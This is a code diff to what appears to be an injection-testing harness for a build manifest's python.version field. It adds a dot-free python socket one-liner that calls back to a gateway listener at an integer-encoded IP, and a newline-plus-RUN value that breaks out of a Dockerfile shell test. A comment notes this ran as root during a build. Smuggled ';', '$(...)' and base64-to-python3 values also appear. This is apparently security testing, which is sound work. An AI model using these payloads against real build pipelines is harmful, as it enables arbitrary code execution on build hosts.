@@ -17,6 +17,7 @@ from __future__ import annotations
 import base64
 import copy
 import io
+import ipaddress
 import json
 import os
 import stat
@@ -85,6 +86,14 @@ class Kit:
         the payload free of quotes, so only the injected separators matter."""
         code = base64.b64encode(self.payload(tag).encode()).decode()
         return f"touch {self.marker(tag)}; echo {code} | base64 -d | python3"
+
+    def dotless_connect(self, tag: str) -> str:
+        """A short shell line without dots or slashes that connects to the gateway listener and
+        sends the tag: it survives a version string cut at its second dot and used as a file name."""
+        ip, port = self.targets[0]
+        number = int(ipaddress.ip_address(ip))  # 172.17.0.1 -> 2886795265: no dots
+        return (f"python3 -c \"import socket as s;c=getattr(s,'create_connection')(('{number}',{port}),3);"
+                f"getattr(c,'send')(b'{tag}')\"")
 
     def script(self, tag: str) -> str:
         """The app script with the payload first; it then fails like the base bundle."""
@@ -400,8 +409,10 @@ def variants() -> list[Variant]:
         def _(kit, out_dir):
             return write(derive(kit, name, manifest=lambda m: set_path(m, path, value_of(kit, name))), out_dir, name)
 
+    # closes the template's `if [ "$v" != "X" ]` cleanly, adds a RUN step, and reopens a quote for
+    # the rest of the line: on d24dc4d the payload ran as root, with network, during the build
     inject("pyver-newline-run", "python.version with a newline and a RUN line", "python.version",
-           lambda k, t: f"3.11\nRUN {k.shell(t)}")
+           lambda k, t: f'3.11" ]; then true; fi\nRUN {k.dotless_connect(t)}\nRUN if [ "x')
     inject("pyver-shell", "python.version with ; and a command", "python.version",
            lambda k, t: f"3.11; {k.shell(t)}; #")
     inject("pyver-subst", "python.version with $(...)", "python.version", lambda k, t: f"3.11$({k.shell(t)})")
